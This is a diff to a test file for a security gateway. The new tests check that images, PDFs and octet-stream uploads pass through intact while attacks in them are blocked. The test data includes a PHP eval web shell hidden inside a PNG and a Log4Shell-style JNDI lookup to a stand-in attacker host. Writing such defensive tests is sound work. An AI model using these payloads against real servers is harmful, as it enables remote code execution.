@@ -1,5 +1,6 @@
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
 import { request } from 'undici';
 import { startUpstream, type TestUpstream } from '../helpers/upstream.ts';
 import { startGateway, type TestGateway } from '../helpers/gateway.ts';
@@ -184,7 +185,7 @@ test('the input budget (maxInputs, default 5000) holds for bodies: a 500-record 
   assert.equal((await send('/api/bulk', { method: 'POST', headers: { 'content-type': 'application/json' }, body: attack })).status, 403, 'the last record is inspected too');
 });
 
-test('every text type is inspected as text, JSON by its other names as JSON, NDJSON line by line; binary types stay 415', async () => {
+test('every text type is inspected as text, JSON by its other names as JSON, NDJSON line by line; binary formats parsed into fields stay 415', async () => {
   const csv = 'id,name,note\n1,"Kim, Ji-woo","said ""hi"""\n2,O\'Brien,=SUM(A1:A2)\n';
   assert.equal((await send('/import', { method: 'POST', body: csv, headers: { 'content-type': 'text/csv' } })).status, 200);
   assert.equal((await send('/import', { method: 'POST', body: `1,${JNDI}\n`, headers: { 'content-type': 'text/csv' } })).status, 403);
@@ -199,7 +200,7 @@ test('every text type is inspected as text, JSON by its other names as JSON, NDJ
   const event = (await gw.logs()).find((r) => r.type === 'security' && r.requestId === attack.headers['x-request-id']);
   assert.ok(JSON.stringify(event).includes('body:line2:$.msg'), JSON.stringify(event));
   assert.equal((await send('/_bulk', { method: 'POST', body: '{"a":1}\n{"a":1,}\n', headers: { 'content-type': 'application/x-ndjson' } })).status, 400);
-  assert.equal((await send('/img', { method: 'POST', body: Buffer.from('89504e470d0a1a0a', 'hex'), headers: { 'content-type': 'image/png' } })).status, 415);
+  assert.equal((await send('/rpc', { method: 'POST', body: Buffer.from('0a03616263', 'hex'), headers: { 'content-type': 'application/x-protobuf' } })).status, 415);
 });
 
 test('bodies in EUC-KR are read as Korean: forms, XML, text and JSON pass, attacks in them (full-width too) are blocked; UTF-8 by any name', async () => {
@@ -318,6 +319,31 @@ test('a web shell after a long start of a text file in an upload is found: file 
   });
   assert.equal(res.status, 403);
   assert.equal(res.problem.reason, 'php_detected');
+});
+
+test('a body that is a file (an image, a PDF, octet-stream) is inspected as an upload: binary for hidden server code, text whole', async () => {
+  const pixels = Buffer.alloc(4096);
+  for (let i = 0; i < pixels.length; i++) pixels[i] = (i * 2654435761) >>> 24; // fixed noise, with NUL bytes
+  const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), pixels]);
+  const put = (path: string, type: string, body: Buffer | string) => send(path, { method: 'PUT', body, headers: { 'content-type': type } });
+  const count = upstream.requests.length;
+  assert.equal((await put('/me/avatar', 'image/png', png)).status, 200);
+  const seen = upstream.requests.at(-1)!;
+  assert.equal(seen.bodyBytes, png.length);
+  assert.equal(seen.bodySha256, createHash('sha256').update(png).digest('hex'), 'forwarded byte for byte');
+  assert.equal((await put('/docs/a.pdf', 'application/pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), pixels]))).status, 200);
+  assert.equal((await put('/files/notes.txt', 'application/octet-stream', 'Agenda: select the venue from the list; O\'Brien brings ${drinks}\n')).status, 200);
+  assert.equal(upstream.requests.length, count + 3);
+
+  const shell = await put('/me/avatar', 'image/png', Buffer.concat([png.subarray(0, 300), Buffer.from('<?php eval($_POST["x"]); ?>'), png.subarray(300)]));
+  assert.equal(shell.status, 403);
+  assert.equal(shell.problem.reason, 'php_detected');
+  const event = (await gw.logs()).find((r) => r.type === 'security' && r.requestId === shell.headers['x-request-id']);
+  assert.ok(JSON.stringify(event).includes('"location":"body"'), JSON.stringify(event));
+  assert.equal((await put('/files/log.txt', 'application/octet-stream', `user agent ${JNDI}\n`)).status, 403);
+  // JSON sent as a file to a backend that parses every body: escapes are decoded as that backend decodes them
+  assert.equal((await put('/files/a', 'application/octet-stream', '{"a":"\\u0024{jndi:ldap://attacker.example/a}"}')).status, 403);
+  assert.equal(upstream.requests.length, count + 3, 'no attack reached the upstream');
 });
 
 test('a binary upload is not read as text, but a web shell hidden in an image is found; a plain image passes', async () => {
